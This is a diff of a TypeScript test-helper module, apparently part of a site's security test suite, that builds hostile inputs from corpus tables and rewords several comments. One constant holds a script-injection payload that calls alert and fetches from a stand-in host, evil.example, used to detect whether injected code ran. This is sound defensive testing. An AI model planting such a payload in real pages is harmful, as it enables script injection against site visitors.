@@ -1,5 +1,5 @@
 /**
- * One hostile input and what it must end as, and how the tables of the corpus become inputs.
+ * One hostile input with its expected end, and the way from the tables of the corpus to inputs.
  *
  * A row says `harmless`, or the rule that refuses it with its line: `html 3`. Lines count from the
  * first line of the row itself, wherever it stands in the file.
@@ -11,7 +11,7 @@ import { samples } from '../../samples.ts';
 
 export interface HostileInput {
   kind: string;
-  /** What it tries, in a few words. */
+  /** The attack, in a few words. */
   name: string;
   /** Path from the root of the project. */
   file: string;
@@ -26,10 +26,10 @@ export type Content = string | Uint8Array | { target: string };
 
 export type Expected = 'harmless' | `${Rule} ${number}`;
 
-/** What it tries, its text, what it must end as. */
+/** The attack, its text, and how it must end. */
 export type Row = [name: string, text: string, expected: Expected];
 
-/** Sets a mark, opens a dialog and asks somebody else: one of them is noticed. Holds no `"`. */
+/** Sets a mark, opens a dialog and asks somebody else: the tests notice one of them. Holds no `"`. */
 export const attack = "top.ran=1;alert(1);fetch('https://evil.example/ran')";
 
 /** Texts below the head of a Seite. */
@@ -57,7 +57,7 @@ export function inProtokoll(kind: string, rows: readonly Row[], before = ''): Ho
   });
 }
 
-/** Lines of YAML that stand in a head in the place of the fields of the same name. */
+/** Lines of YAML that replace the fields of the same name in a head. */
 export function inFields(
   kind: string,
   collection: CollectionName,
@@ -87,14 +87,14 @@ export function asFiles(
   }));
 }
 
-/** Whole files of an entry, whose name does not matter. */
+/** Whole files of an entry; their names do not matter. */
 export function asEntries(kind: string, rows: readonly Row[]): HostileInput[] {
   return rows.map(([name, text, expected], index) =>
     toInput(kind, name, 'seiten', index, '', text, expected),
   );
 }
 
-/** In single quotation marks, between which YAML knows nothing but the quotation mark. */
+/** Single quotation marks, between which YAML knows nothing but the quotation mark. */
 export function quote(text: string): string {
   return `'${text.replaceAll("'", "''")}'`;
 }
